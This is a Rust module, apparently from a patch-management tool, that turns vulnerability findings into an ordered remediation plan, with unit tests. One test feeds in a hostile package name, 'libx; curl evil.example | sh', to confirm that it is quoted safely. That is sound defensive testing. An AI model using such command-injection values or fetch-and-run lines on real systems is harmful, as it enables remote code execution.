//! The security plan: failing findings grouped by the action that closes them (one
//! source-package upgrade can close thousands of CVEs), in the order to do them:
//! end-of-life releases, known-exploited, available fixes by severity and exposure,
//! reboots, hardening; unfixed and unimportant items last, as information.

use crate::advisory::VersionScheme;
use crate::model::{BinaryReason, Facts, Finding, FindingKind, Fix, Outcome};
use jiff::Timestamp;
use serde::{Deserialize, Serialize};
use std::cmp::{Ordering, Reverse};
use std::collections::{BTreeMap, BTreeSet};

/// Where an action sits in the plan, in plan order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
#[serde(rename_all = "kebab-case")]
pub enum Section {
    /// The release (or a package) is past its security support.
    EndOfLife,
    /// A vulnerability in the CISA known-exploited catalog.
    KnownExploited,
    /// A package upgrade is available that closes vulnerabilities.
    AvailableFixes,
    /// A reboot activates installed fixes.
    RebootNeeded,
    /// Kernel and binary hardening.
    Hardening,
    /// Nothing to do now: unfixed, unimportant or limited-support items.
    Informational,
}

impl Section {
    /// Human heading of the section.
    pub fn title(self) -> &'static str {
        match self {
            Self::EndOfLife => "End of life",
            Self::KnownExploited => "Known exploited vulnerabilities",
            Self::AvailableFixes => "Available fixes",
            Self::RebootNeeded => "Reboot needed",
            Self::Hardening => "Hardening",
            Self::Informational => "Informational",
        }
    }
}

/// One remediation action and the findings it closes.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Action {
    /// Plan section.
    pub section: Section,
    /// One line: what to do (`Upgrade openssl to 3.0.15-1~deb12u1`).
    pub title: String,
    /// Package, release, host or setting the action is about.
    pub subject: String,
    /// The command or step to take.
    pub remediation: String,
    /// The package upgrade, when it is one: the highest version any finding needs.
    pub fix: Option<Fix>,
    /// Highest severity among its findings.
    pub severity: Option<String>,
    /// One of its findings is known exploited.
    pub known_exploited: bool,
    /// The package owns a binary that listens on a socket.
    pub exposed: bool,
    /// Every CVE / advisory id it closes, sorted and deduplicated.
    pub ids: Vec<String>,
    /// The failing findings it closes.
    pub findings: Vec<Finding>,
}

/// Counts for the top of a report.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Summary {
    /// Failing findings.
    pub failed: usize,
    /// Passing findings.
    pub passed: usize,
    /// Not-applicable findings.
    pub not_applicable: usize,
    /// Actions outside the informational section.
    pub actions: usize,
    /// Informational actions.
    pub informational: usize,
    /// Distinct vulnerability ids that the non-informational actions close.
    pub ids_closed: usize,
    /// Actions per section (non-empty sections only).
    pub per_section: BTreeMap<Section, usize>,
}

/// The security plan of one host.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Plan {
    /// Host name.
    pub host: String,
    /// Release as os-release names it.
    pub release: String,
    /// When the plan was made.
    pub generated_at: Timestamp,
    /// Counts.
    pub summary: Summary,
    /// Actions in plan order; informational ones last.
    pub actions: Vec<Action>,
    /// Checks that passed.
    pub passed: Vec<Finding>,
    /// Checks that did not apply, with their reasons.
    pub not_applicable: Vec<Finding>,
    /// Issue 13, point 5: the baseline that would close the hardening findings a baseline
    /// can close (kernel settings, firewall, browser policy), for an operator to review.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub proposed_baseline: Option<crate::proposal::ProposedBaseline>,
}

impl Plan {
    /// True when any action outside the informational section remains.
    pub fn has_failing(&self) -> bool {
        self.summary.actions > 0
    }

    /// Actions of one section, in order.
    pub fn section(&self, s: Section) -> impl Iterator<Item = &Action> {
        self.actions.iter().filter(move |a| a.section == s)
    }
}

/// Rank of a severity label for ordering: unknown sits between low and medium
/// (every security-suite update fixes something, even when no feed rated it).
pub fn severity_rank(s: Option<&str>) -> u8 {
    match s {
        Some("critical") => 50,
        Some("high") => 40,
        Some("medium") => 30,
        None => 25,
        Some("low") => 20,
        Some("unimportant") => 10,
        Some(_) => 25,
    }
}

/// True when a failing finding is information only: a vulnerability without a fix
/// (and not known exploited), an unimportant one, or limited / not-yet-ended support.
pub fn is_informational(f: &Finding) -> bool {
    if f.known_exploited {
        return false;
    }
    (matches!(
        f.kind,
        FindingKind::Vulnerability | FindingKind::MissingUpdate
    ) && f.fix.is_none())
        || f.severity.as_deref() == Some("unimportant")
        || f.check == "package-support.limited"
        || f.check == "package-support.ending"
}

/// Source packages that own a binary with a listening socket.
pub fn exposed_sources(facts: &Facts) -> BTreeSet<String> {
    let by_binary: BTreeMap<&str, &str> = facts
        .packages
        .iter()
        .map(|p| (p.name.as_str(), p.source.as_str()))
        .collect();
    facts
        .binaries
        .iter()
        .filter(|b| b.reason == BinaryReason::Listening)
        .filter_map(|b| b.package.as_deref())
        .map(|p| p.split(':').next().unwrap_or(p))
        .map(|p| by_binary.get(p).copied().unwrap_or(p).to_string())
        .collect()
}

#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum GroupKey {
    Upgrade(String),
    Unfixed(String),
    Other(FindingKind, String, String),
}

fn group_key(f: &Finding) -> GroupKey {
    match (&f.fix, f.kind) {
        (Some(fix), _) => GroupKey::Upgrade(fix.source.clone()),
        (None, FindingKind::Vulnerability | FindingKind::MissingUpdate) => {
            GroupKey::Unfixed(f.subject.clone())
        }
        (None, FindingKind::RebootNeeded) => {
            GroupKey::Other(f.kind, f.check.clone(), String::new())
        }
        (None, kind) => {
            let what = if f.remediation.is_empty() {
                f.subject.clone()
            } else {
                f.remediation.clone()
            };
            GroupKey::Other(kind, f.check.clone(), what)
        }
    }
}

/// Builds the plan from every finding of a host (passing and not-applicable ones are
/// kept apart for the report).
pub fn build(facts: &Facts, findings: Vec<Finding>, now: Timestamp) -> Plan {
    let exposed = exposed_sources(facts);
    let proposed_baseline = crate::proposal::propose(facts, &findings);
    let mut passed = Vec::new();
    let mut not_applicable = Vec::new();
    let mut groups: BTreeMap<GroupKey, Vec<Finding>> = BTreeMap::new();
    let mut failed = 0;
    for f in findings {
        match f.outcome {
            Outcome::Pass => passed.push(f),
            Outcome::NotApplicable => not_applicable.push(f),
            Outcome::Fail => {
                failed += 1;
                groups.entry(group_key(&f)).or_default().push(f);
            }
        }
    }
    let mut actions: Vec<Action> = groups
        .into_iter()
        .map(|(key, fs)| make_action(key, fs, &exposed))
        .collect();
    actions.sort_by(compare_actions);
    let mut summary = Summary {
        failed,
        passed: passed.len(),
        not_applicable: not_applicable.len(),
        ..Summary::default()
    };
    let mut closed = BTreeSet::new();
    for a in &actions {
        *summary.per_section.entry(a.section).or_default() += 1;
        if a.section == Section::Informational {
            summary.informational += 1;
        } else {
            summary.actions += 1;
            closed.extend(a.ids.iter().cloned());
        }
    }
    summary.ids_closed = closed.len();
    Plan {
        host: facts.hostname.clone(),
        release: if facts.os.pretty_name.is_empty() {
            format!("{} {}", facts.os.id, facts.os.version_id)
                .trim()
                .to_string()
        } else {
            facts.os.pretty_name.clone()
        },
        generated_at: now,
        summary,
        actions,
        passed,
        not_applicable,
        proposed_baseline,
    }
}

fn make_action(key: GroupKey, findings: Vec<Finding>, exposed: &BTreeSet<String>) -> Action {
    let all_info = findings.iter().all(is_informational);
    let known_exploited = findings.iter().any(|f| f.known_exploited);
    let severity = findings
        .iter()
        .filter(|f| all_info || !is_informational(f))
        .map(|f| f.severity.as_deref())
        .max_by_key(|s| severity_rank(*s))
        .flatten()
        .map(str::to_string);
    let ids: Vec<String> = findings
        .iter()
        .flat_map(|f| f.ids.iter().cloned())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    let first = &findings[0];
    let subject = match &key {
        GroupKey::Upgrade(source) => source.clone(),
        _ => first.subject.clone(),
    };
    let is_exposed = exposed.contains(&subject)
        || findings
            .iter()
            .filter_map(|f| f.fix.as_ref())
            .any(|fix| exposed.contains(&fix.source));
    let fix = findings
        .iter()
        .filter_map(|f| f.fix.clone())
        .max_by(|a, b| VersionScheme::Debian.compare(&a.version, &b.version));
    let eol = findings
        .iter()
        .any(|f| f.kind == FindingKind::EndOfLife || f.check == "package-support.ended");
    let section = if eol {
        Section::EndOfLife
    } else if known_exploited {
        Section::KnownExploited
    } else if all_info {
        Section::Informational
    } else if fix.is_some() {
        Section::AvailableFixes
    } else {
        match first.kind {
            FindingKind::RebootNeeded => Section::RebootNeeded,
            FindingKind::Hardening => Section::Hardening,
            _ => Section::Informational,
        }
    };
    let vulns = ids.len();
    let (title, remediation) = match (&key, &fix) {
        (GroupKey::Upgrade(source), Some(fix)) => {
            let closes = match vulns {
                0 => String::new(),
                1 => " (closes 1 vulnerability)".to_string(),
                n => format!(" (closes {n} vulnerabilities)"),
            };
            let binaries: BTreeSet<&str> = findings
                .iter()
                .filter(|f| f.kind == FindingKind::MissingUpdate)
                .map(|f| f.subject.as_str())
                .collect();
            let remediation = if binaries.is_empty() {
                first.remediation.clone()
            } else {
                format!(
                    "apt-get install --only-upgrade {}",
                    crate::command::deb_packages(binaries)
                )
            };
            (
                format!("Upgrade {source} to {}{closes}", fix.version),
                remediation,
            )
        }
        (GroupKey::Unfixed(source), _) => (
            match vulns {
                1 => format!("{source}: 1 vulnerability without a fix"),
                n => format!("{source}: {n} vulnerabilities without a fix"),
            },
            first.remediation.clone(),
        ),
        _ => {
            let title = if first.remediation.is_empty() {
                first.reason.clone()
            } else {
                let mut t = first.remediation.clone();
                if findings.len() > 1 {
                    t.push_str(&format!(" ({} items)", findings.len()));
                }
                t
            };
            (title, first.remediation.clone())
        }
    };
    Action {
        section,
        title,
        subject,
        remediation,
        fix,
        severity,
        known_exploited,
        exposed: is_exposed,
        ids,
        findings,
    }
}

fn compare_actions(a: &Action, b: &Action) -> Ordering {
    let sev = |x: &Action| Reverse(severity_rank(x.severity.as_deref()));
    a.section
        .cmp(&b.section)
        .then_with(|| match a.section {
            // Known exploited: what an attacker can reach first.
            Section::KnownExploited => Reverse(a.exposed)
                .cmp(&Reverse(b.exposed))
                .then_with(|| sev(a).cmp(&sev(b))),
            Section::AvailableFixes => sev(a)
                .cmp(&sev(b))
                .then_with(|| Reverse(a.exposed).cmp(&Reverse(b.exposed)))
                .then_with(|| Reverse(a.ids.len()).cmp(&Reverse(b.ids.len()))),
            _ => sev(a).cmp(&sev(b)),
        })
        .then_with(|| a.subject.cmp(&b.subject))
        .then_with(|| a.title.cmp(&b.title))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::BinaryFacts;
    use patchday_types::InstalledPackage;

    fn f(kind: FindingKind, check: &str, subject: &str) -> Finding {
        Finding {
            check: check.into(),
            kind,
            outcome: Outcome::Fail,
            subject: subject.into(),
            reason: format!("{subject} reason"),
            remediation: String::new(),
            ids: vec![],
            severity: None,
            known_exploited: false,
            fix: None,
        }
    }

    fn vuln(source: &str, id: &str, sev: &str, fixed: Option<&str>) -> Finding {
        let mut x = f(FindingKind::Vulnerability, "known-vulnerability", source);
        x.ids = vec![id.into()];
        x.severity = Some(sev.into());
        x.fix = fixed.map(|v| Fix {
            source: source.into(),
            version: v.into(),
        });
        x
    }

    fn pkg(name: &str, source: &str) -> InstalledPackage {
        InstalledPackage {
            name: name.into(),
            version: "1".into(),
            architecture: "amd64".into(),
            source: source.into(),
            source_version: "1".into(),
        }
    }

    #[test]
    fn plan_groups_by_upgrade_and_orders_sections() {
        let facts = Facts {
            hostname: "web1".into(),
            packages: vec![pkg("openssh-server", "openssh"), pkg("libxml2", "libxml2")],
            binaries: vec![BinaryFacts {
                path: "/usr/sbin/sshd".into(),
                reason: BinaryReason::Listening,
                package: Some("openssh-server".into()),
                ..BinaryFacts::default()
            }],
            ..Facts::default()
        };
        let mut eol = f(FindingKind::EndOfLife, "end-of-life.release", "Debian 11");
        eol.remediation = "Upgrade the release to 12 (Bookworm)".into();
        eol.severity = Some("critical".into());
        let mut kev = vuln("glibc", "CVE-1", "high", Some("2.36-9+deb12u4"));
        kev.known_exploited = true;
        let mut missing = f(
            FindingKind::MissingUpdate,
            "missing-security-update",
            "libxml2",
        );
        missing.fix = Some(Fix {
            source: "libxml2".into(),
            version: "2.9.14+dfsg-1.3~deb12u2".into(),
        });
        let mut reboot = f(FindingKind::RebootNeeded, "reboot-needed", "web1");
        reboot.remediation = "reboot".into();
        let mut hard = f(
            FindingKind::Hardening,
            "hardening.sysctl.kernel.kptr_restrict",
            "kernel.kptr_restrict",
        );
        hard.remediation = "sysctl -w kernel.kptr_restrict=1".into();
        let mut pass = f(FindingKind::Hardening, "hardening.nx", "cpu");
        pass.outcome = Outcome::Pass;
        let findings = vec![
            hard,
            reboot,
            vuln("libxml2", "CVE-10", "high", Some("2.9.14+dfsg-1.3~deb12u1")),
            vuln(
                "libxml2",
                "CVE-11",
                "medium",
                Some("2.9.14+dfsg-1.3~deb12u2"),
            ),
            vuln("libxml2", "CVE-12", "unimportant", None),
            missing,
            vuln("openssh", "CVE-20", "high", Some("1:9.2p1-2+deb12u5")),
            vuln("curl", "CVE-30", "critical", Some("7.88.1-10+deb12u8")),
            vuln("zlib", "CVE-40", "low", None),
            vuln(
                "tar",
                "CVE-50",
                "unimportant",
                Some("1.34+dfsg-1.2+deb12u1"),
            ),
            kev,
            eol,
            pass,
        ];
        let now: Timestamp = "2026-11-10T09:00:00Z".parse().unwrap();
        let plan = build(&facts, findings, now);
        let order: Vec<(Section, &str)> = plan
            .actions
            .iter()
            .map(|a| (a.section, a.subject.as_str()))
            .collect();
        assert_eq!(
            order,
            vec![
                (Section::EndOfLife, "Debian 11"),
                (Section::KnownExploited, "glibc"),
                (Section::AvailableFixes, "curl"),
                // Same severity: the package behind a listening socket first.
                (Section::AvailableFixes, "openssh"),
                (Section::AvailableFixes, "libxml2"),
                (Section::RebootNeeded, "web1"),
                (Section::Hardening, "kernel.kptr_restrict"),
                // Informational: unfixed "low" before "unimportant".
                (Section::Informational, "zlib"),
                (Section::Informational, "libxml2"),
                (Section::Informational, "tar"),
            ]
        );
        let libxml = &plan.actions[4];
        // One upgrade, to the highest version any finding needs, closes both CVEs.
        assert_eq!(
            libxml.fix.as_ref().unwrap().version,
            "2.9.14+dfsg-1.3~deb12u2"
        );
        assert_eq!(libxml.ids, vec!["CVE-10", "CVE-11"]);
        assert_eq!(libxml.findings.len(), 3);
        assert!(libxml
            .title
            .starts_with("Upgrade libxml2 to 2.9.14+dfsg-1.3~deb12u2 (closes 2"));
        assert!(libxml.remediation.contains("--only-upgrade libxml2"));
        assert!(plan.actions[3].exposed);
        assert_eq!(plan.summary.actions, 7);
        assert_eq!(plan.summary.informational, 3);
        assert_eq!(plan.summary.passed, 1);
        assert_eq!(plan.summary.ids_closed, 5);
        assert!(plan.has_failing());
        assert_eq!(
            plan.actions[0].title,
            "Upgrade the release to 12 (Bookworm)"
        );
    }

    /// Issue 8, finding 5: a package name from an agent's facts that breaks Debian policy
    /// reaches the suggested command as one quoted shell argument, never as shell code.
    #[test]
    fn hostile_package_name_in_facts_is_one_quoted_argument_of_the_command() {
        let hostile = "libx; curl evil.example | sh";
        let mut missing = f(
            FindingKind::MissingUpdate,
            "missing-security-update",
            hostile,
        );
        missing.fix = Some(Fix {
            source: "libx".into(),
            version: "1.1".into(),
        });
        let mut plain = missing.clone();
        plain.subject = "libx1".into();
        let facts = Facts::default();
        let plan = build(
            &facts,
            vec![missing, plain],
            "2026-11-10T09:00:00Z".parse().unwrap(),
        );
        assert_eq!(
            plan.actions[0].remediation,
            "apt-get install --only-upgrade libx1 'libx; curl evil.example | sh'"
        );
        let words = shlex::split(&plan.actions[0].remediation).unwrap();
        assert_eq!(words[3..], ["libx1", hostile]);
    }

    #[test]
    fn only_informational_is_not_failing() {
        let plan = build(
            &Facts::default(),
            vec![vuln("zlib", "CVE-40", "low", None)],
            "2026-11-10T09:00:00Z".parse().unwrap(),
        );
        assert!(!plan.has_failing());
        assert_eq!(plan.summary.informational, 1);
    }
}
